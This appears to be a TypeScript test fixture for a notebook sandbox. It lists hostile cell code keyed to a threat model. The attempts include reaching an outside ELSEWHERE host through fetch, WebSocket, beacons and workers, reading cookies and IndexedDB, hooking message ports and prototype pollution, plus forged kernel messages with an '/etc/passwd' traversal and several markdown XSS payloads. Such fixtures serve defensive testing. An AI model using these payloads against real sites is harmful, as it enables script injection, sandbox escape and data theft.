/**
 * What a hostile cell tries, by the threats of docs/threat-model.md. Each is the body of an async function that
 * returns or throws; it must end by throwing, or return without having had any effect that the test looks for.
 * ELSEWHERE is the address of another site, HOST that of the page.
 */
export interface Attack {
  readonly threat: string;
  readonly name: string;
  readonly code: string;
  /** Going through is no harm by itself; what counts is that the other site hears nothing. */
  readonly harmless?: true;
}

const waits = (make: string, good: string, bad: string): string =>
  `await new Promise((yes, no) => { const it = ${make}; it.${good} = yes; it.${bad} = no; setTimeout(no, 1500); });`;

export const attacks: readonly Attack[] = [
  { threat: "T1 network", name: "fetch, gated", code: `await fetch("ELSEWHERE/gated");` },
  {
    threat: "T1 network",
    name: "the browser's own fetch",
    code: `delete self.fetch; await Object.getPrototypeOf(Object.getPrototypeOf(self)).fetch.call(self, "ELSEWHERE/native", { mode: "no-cors" });`,
  },
  {
    threat: "T1 network",
    name: "the page's own files",
    code: `delete self.fetch; await self.fetch("HOSTkernel.html");`,
  },
  {
    threat: "T1 network",
    name: "XMLHttpRequest",
    code: `const x = new XMLHttpRequest(); x.open("GET", "ELSEWHERE/xhr", false); x.send();`,
  },
  {
    threat: "T1 network",
    name: "EventSource",
    code: waits(`new EventSource("ELSEWHERE/events")`, "onopen", "onerror"),
  },
  {
    threat: "T1 network",
    name: "WebSocket",
    code: waits(`new WebSocket("ELSEWHERE/socket".replace("http", "ws"))`, "onopen", "onerror"),
  },
  {
    threat: "T1 network",
    name: "WebTransport",
    code: `const t = new WebTransport("https://127.0.0.1:1/"); await Promise.race([t.ready, new Promise((_, no) => setTimeout(no, 1000))]);`,
  },
  {
    threat: "T1 network",
    name: "WebSocketStream",
    code: `const s = new WebSocketStream("ELSEWHERE/stream".replace("http", "ws")); s.closed.catch(() => 0); await Promise.race([s.opened, new Promise((_, no) => setTimeout(no, 1000))]);`,
  },
  ...["usb", "serial", "hid", "bluetooth"].map((device) => ({
    threat: "T1 network",
    name: `devices: ${device}`,
    code: `const { ${device} } = navigator as any; if ((await (${device}.getPorts ?? ${device}.getDevices).call(${device})).length === 0) throw 1;`,
  })),
  { threat: "T1 network", name: "importScripts", code: `importScripts("ELSEWHERE/scripts");` },
  { threat: "T1 network", name: "import()", code: `await import("ELSEWHERE/module");` },
  {
    threat: "T1 network",
    name: "the browser's own import()",
    code: `await (0, eval)('import("ELSEWHERE/native-module")');`,
  },
  {
    threat: "T1 network",
    name: "a worker from elsewhere",
    code: waits(`new Worker("ELSEWHERE/worker")`, "onmessage", "onerror"),
  },
  {
    threat: "T1 network",
    name: "a nested worker",
    code: waits(
      `new Worker("data:text/javascript," + encodeURIComponent("fetch('ELSEWHERE/nested').then(() => postMessage(1), () => setTimeout(() => { throw 1 }))"))`,
      "onmessage",
      "onerror",
    ),
  },
  {
    threat: "T1 network",
    name: "a nested blob worker",
    code: waits(
      `new Worker(URL.createObjectURL(new Blob(["fetch('ELSEWHERE/blob').then(() => postMessage(1), () => setTimeout(() => { throw 1 }))"])))`,
      "onmessage",
      "onerror",
    ),
  },
  {
    threat: "T1 network",
    name: "a shared worker",
    code: waits(`new SharedWorker("data:text/javascript,0")`, "onmessage", "onerror"),
  },
  { threat: "T1 network", name: "a font", code: `await new FontFace("x", "url(ELSEWHERE/font)").load();` },
  {
    threat: "T1 network",
    name: "a canvas filter",
    harmless: true,
    code: `const c = new OffscreenCanvas(8, 8).getContext("2d"); c.filter = "url(ELSEWHERE/filter#x)"; c.fillRect(0, 0, 8, 8);`,
  },
  {
    threat: "T1 network",
    name: "streaming WebAssembly",
    code: `delete self.fetch; await WebAssembly.compileStreaming(self.fetch("ELSEWHERE/wasm"));`,
  },
  { threat: "T1 network", name: "a beacon", code: `if (!navigator.sendBeacon("ELSEWHERE/beacon")) throw 1;` },
  {
    threat: "T1 network",
    name: "a peer connection",
    code: `new RTCPeerConnection({ iceServers: [{ urls: "stun:127.0.0.1:1" }] }).createOffer();`,
  },
  {
    threat: "T1 network",
    name: "a service worker",
    code: `await navigator.serviceWorker.register("HOSTkernel.html");`,
  },
  {
    threat: "T1 network",
    name: "navigating",
    harmless: true,
    code: `try { self.location.href = "ELSEWHERE/navigate"; } catch {} try { self.location = "ELSEWHERE/navigate2"; } catch {}`,
  },
  {
    threat: "T2 storage",
    name: "IndexedDB",
    code: waits(`indexedDB.open("secrets")`, "onsuccess", "onerror"),
  },
  {
    threat: "T2 storage",
    name: "the list of databases",
    code: `if ((await indexedDB.databases()).length === 0) throw 1;`,
  },
  {
    threat: "T2 storage",
    name: "storage buckets",
    code: `const bucket = await (navigator as any).storageBuckets.open("secret"); bucket.indexedDB.open("secrets");`,
  },
  { threat: "T2 storage", name: "caches", code: `await caches.open("x");` },
  { threat: "T2 storage", name: "private files", code: `await navigator.storage.getDirectory();` },
  { threat: "T2 storage", name: "local storage", code: `localStorage.getItem("secret");` },
  { threat: "T2 storage", name: "cookies", code: `await cookieStore.getAll();` },
  { threat: "T2 storage", name: "document.cookie", code: `document.cookie;` },
  {
    threat: "T2 storage",
    name: "locks of the page",
    code: `const { held } = await navigator.locks.query(); if (!held.some(({ name }) => name === "secret")) throw 1;`,
  },
  {
    threat: "T3 page",
    name: "a broadcast to the page",
    harmless: true,
    code: `const c = new BroadcastChannel("secret"); c.postMessage("broadcast"); await new Promise((r) => setTimeout(r, 200));`,
  },
  { threat: "T3 page", name: "parent", code: `parent.document;` },
  {
    threat: "T3 page",
    name: "a message to the frame",
    code: `self.postMessage({ kind: "spawn", source: "x" });`,
  },
  {
    threat: "T4 messages",
    name: "polluted prototypes",
    harmless: true,
    code: `Object.prototype.polluted = 1; Array.prototype.polluted = 1; JSON.parse('{"__proto__": {"polluted": 1}}'); display(JSON.parse('{"__proto__": {"polluted": 1}, "constructor": {"prototype": {"polluted": 1}}}')); delete Object.prototype.polluted; delete Array.prototype.polluted;`,
  },
  {
    threat: "T4 messages",
    name: "the kernel's port",
    code: `
      const undo = [];
      let port = null;
      const hook = (object, name) => {
        const own = Object.getOwnPropertyDescriptor(object, name);
        const wrap = (old) => function (...given) {
          for (const it of [this, this?.target, ...given]) if (it instanceof MessagePort) port = it;
          return Reflect.apply(old, this, given);
        };
        undo.push(() => Object.defineProperty(object, name, own));
        Object.defineProperty(object, name, own.get ? { ...own, get: wrap(own.get) } : { ...own, value: wrap(own.value) });
      };
      hook(MessagePort.prototype, "postMessage");
      for (const name of ["data", "ports"]) hook(MessageEvent.prototype, name);
      for (const name of ["target", "currentTarget"]) hook(Event.prototype, name);
      for (const name of ["call", "apply", "bind"]) hook(Function.prototype, name);
      console.log("a message out");
      await fetch("an answer in").catch(() => undefined);
      await new Promise((r) => setTimeout(r, 150));
      for (const one of undo.reverse()) one();
      if (!port) throw new Error("no port");`,
  },
  {
    threat: "T4 messages",
    name: "a request with forged headers",
    code: `await fetch("ELSEWHERE/headers", { method: "POST", headers: { cookie: "a=b", "x-y": "z" }, body: "secret" });`,
  },
];

/** Messages that no honest kernel sends. */
export const FORGED = `
const evil = JSON.parse('{"__proto__": {"polluted": 1}, "kind": "state", "id": "cell", "state": {"kind": "done"}}');
let deep = {};
for (let i = 0, at = deep; i < 5000; i++) at = at.x = {};
for (const message of [
  null, 1, "x", [], {}, evil, deep, { kind: "__proto__" }, { kind: "constructor" }, { kind: "toString" },
  { kind: "state", id: "other", state: { kind: "done" } },
  { kind: "state", id: "cell", state: { kind: "error", error: { code: {}, message: 1 }, lineText: null } },
  { kind: "graph", cells: { length: 1e9 } },
  { kind: "outputs", id: "cell", replace: false, outputs: [{ view: "run", runId: "stolen" }] },
  { kind: "outputs", id: "cell", replace: false, outputs: [{ view: "html", html: "<img src=x onerror=alert(1)>" }] },
  { kind: "outputs", id: "cell", replace: false, outputs: [{ view: "value", name: null, value: deep }] },
  { kind: "fetch", request: 1e6, url: "ELSEWHERE/forged", method: "GET", headers: [], body: null },
  { kind: "fetch", request: 2e6, url: "javascript:alert(1)", method: "GET", headers: [], body: null },
  { kind: "fetch", request: 3e6, url: "HOSTkernel.html", method: "GET", headers: [], body: null },
  { kind: "package", request: 4e6, name: "../../etc/passwd" },
  { kind: "train", request: 5e6, id: "cell", needed: true, job: { kind: "simulated", environment: "CartPole-v1" } },
  { kind: "settled", command: 1e6 },
  { kind: "pong", sequence: -1 },
]) {
  try { port.postMessage([message]); port.postMessage(message); } catch { /* too deep to be cloned */ }
}
`;

/** Hostile text of markdown cells, for whatever shows it. */
export const MARKDOWN = `
<script>window.broken = "script"</script>
<img src="ELSEWHERE/html-image" onerror="window.broken = 'html'">
![image](ELSEWHERE/markdown-image)
![image](data:image/svg+xml,%3Csvg%20xmlns=%22http://www.w3.org/2000/svg%22%20onload=%22top.broken=1%22%3E%3Cscript%3Etop.broken='svg'%3C/script%3E%3C/svg%3E)
[link](javascript:window.broken='link') [data](data:text/html,<script>top.broken=1</script>) <javascript:window.broken=2>
<iframe srcdoc="<script>parent.broken='frame'</script>"></iframe>
<svg onload="window.broken = 'svg'"><script>window.broken = 'svg'</script></svg>
[style]: ELSEWHERE/definition "x\\" onmouseover=\\"window.broken = 3"
[style] <style>body { background: url(ELSEWHERE/style) }</style>
`;

/** A kernel that is its author's own from the first line: does `when run` and says that the cell is done. */
export const hostileKernel = (whenRun: string): string => `
onmessage = ({ ports: [port] }) => {
  port.onmessage = ({ data }) => {
    if (data.kind !== "run") return;
    ${whenRun}
    port.postMessage([
      { kind: "outputs", id: "cell", replace: false, outputs: [{ view: "text", stream: "out", text: "sent" }] },
      { kind: "state", id: "cell", state: { kind: "done" } },
      { kind: "settled", command: data.command },
    ]);
  };
  port.postMessage([{ kind: "ready", isolation: { origin: "null", storage: false, network: false } }]);
};
`;
